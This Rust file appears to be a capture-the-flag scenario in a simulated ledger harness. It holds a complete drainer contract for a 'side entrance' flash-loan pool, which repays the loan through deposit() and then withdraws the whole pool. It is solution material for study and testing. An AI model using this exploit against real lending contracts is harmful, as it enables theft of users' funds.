//! Side entrance: repay a flash loan with a deposit, then withdraw it.
//!
//! The pool counts a loan as repaid when its ETH balance is back where it
//! started, and `deposit()` is an ETH transfer into the pool. Borrowing the
//! whole balance and depositing it from the `execute()` callback credits the
//! borrower with everything the pool holds.

use std::sync::Arc;

use alloy_primitives::{Address, U256};
use gauntlet_ledger::abi::{split_call, Selector};
use gauntlet_ledger::contract::{Contract, Frame};
use gauntlet_ledger::primitives::{ether, one_ether};
use gauntlet_ledger::revert::{authorize, CallResult, Revert};
use gauntlet_ledger::state::slot;
use gauntlet_ledger::vm::Ledger;
use gauntlet_targets::external::send_value;
use gauntlet_targets::side_entrance::{self, calls, SideEntranceLenderPool, EXECUTE};
use tracing::debug;

use crate::actors::DEPLOYER;
use crate::contract::{
    check_eq, check_that, setup_eq, PhaseExt, Scenario, ScenarioError, TrackedBalance,
};

pub const ID: &str = "side_entrance";

/// `attack()`
pub const ATTACK: Selector = Selector::new([0x9e, 0x5f, 0xaa, 0xfc]);

const OWNER_SLOT: u64 = 0;

fn ether_in_pool() -> U256 {
    ether(1_000)
}

#[derive(Debug, Clone, Copy)]
pub struct SideEntrance;

#[derive(Debug, Clone, Copy)]
pub struct Fixture {
    pub pool: Address,
    pub player: Address,
}

/// Borrower that answers `execute()` by depositing the loan back.
#[derive(Debug, Clone, Copy)]
pub struct SideEntranceDrainer {
    pub pool: Address,
}

impl SideEntranceDrainer {
    fn attack(&self, vm: &mut Ledger, this: Address, owner: Address) -> CallResult<()> {
        let amount = vm.balance(self.pool);
        vm.call(this, self.pool, U256::ZERO, &calls::flash_loan(amount))?;
        vm.call(this, self.pool, U256::ZERO, &calls::withdraw())?;
        let loot = vm.balance(this);
        send_value(vm, this, owner, loot)
    }
}

impl Contract for SideEntranceDrainer {
    fn name(&self) -> &'static str {
        "SideEntranceDrainer"
    }

    fn construct(&self, vm: &mut Ledger, frame: &Frame) -> CallResult<()> {
        vm.sstore_address(frame.address, slot(OWNER_SLOT), frame.caller);
        Ok(())
    }

    fn call(&self, vm: &mut Ledger, frame: &Frame, input: &[u8]) -> CallResult<Vec<u8>> {
        // receive(): the pool's withdrawal lands here.
        let Some((selector, _)) = split_call(input) else {
            return Ok(Vec::new());
        };
        let this = frame.address;
        match selector {
            EXECUTE => {
                vm.call(this, self.pool, frame.value, &calls::deposit())?;
                Ok(Vec::new())
            }
            ATTACK => {
                frame.non_payable(self.name())?;
                let owner = vm.sload_address(this, slot(OWNER_SLOT));
                authorize(frame.caller == owner, "NotOwner")?;
                self.attack(vm, this, owner)?;
                Ok(Vec::new())
            }
            _ => Err(Revert::UnknownSelector {
                contract: self.name(),
                selector,
            }),
        }
    }
}

impl Scenario for SideEntrance {
    type Fixture = Fixture;

    fn id(&self) -> &'static str {
        ID
    }

    fn setup(&self, vm: &mut Ledger) -> Result<Fixture, ScenarioError> {
        let pool = vm
            .deploy(DEPLOYER, Arc::new(SideEntranceLenderPool), U256::ZERO)
            .in_setup("deploy pool")?;
        vm.send(DEPLOYER, pool, ether_in_pool(), &calls::deposit())
            .in_setup("deposit")?;
        setup_eq("pool balance", ether_in_pool(), vm.balance(pool))?;
        setup_eq(
            "deployer deposit",
            ether_in_pool(),
            side_entrance::deposited(vm, pool, DEPLOYER).in_setup("balances")?,
        )?;

        let player = self.player();
        vm.set_balance(player, one_ether());
        setup_eq("player balance", one_ether(), vm.balance(player))?;
        Ok(Fixture { pool, player })
    }

    fn execute(&self, vm: &mut Ledger, fixture: &mut Fixture) -> Result<(), ScenarioError> {
        let drainer = vm
            .deploy(
                fixture.player,
                Arc::new(SideEntranceDrainer { pool: fixture.pool }),
                U256::ZERO,
            )
            .attack_step("deploy drainer")?;
        debug!(%drainer, pool = %vm.balance(fixture.pool), "drainer deployed");
        vm.send(fixture.player, drainer, U256::ZERO, &ATTACK.as_bytes())
            .attack_step("attack")?;
        Ok(())
    }

    fn verify(&self, vm: &Ledger, fixture: &Fixture) -> Result<(), ScenarioError> {
        check_eq("pool balance", U256::ZERO, vm.balance(fixture.pool))?;
        let player = vm.balance(fixture.player);
        check_that(
            "player balance",
            player > ether_in_pool(),
            format!("> {}", ether_in_pool()),
            player,
        )
    }

    fn tracked_balances(&self, fixture: &Fixture) -> Vec<TrackedBalance> {
        vec![
            TrackedBalance::native("pool_eth", fixture.pool),
            TrackedBalance::native("player_eth", fixture.player),
        ]
    }
}
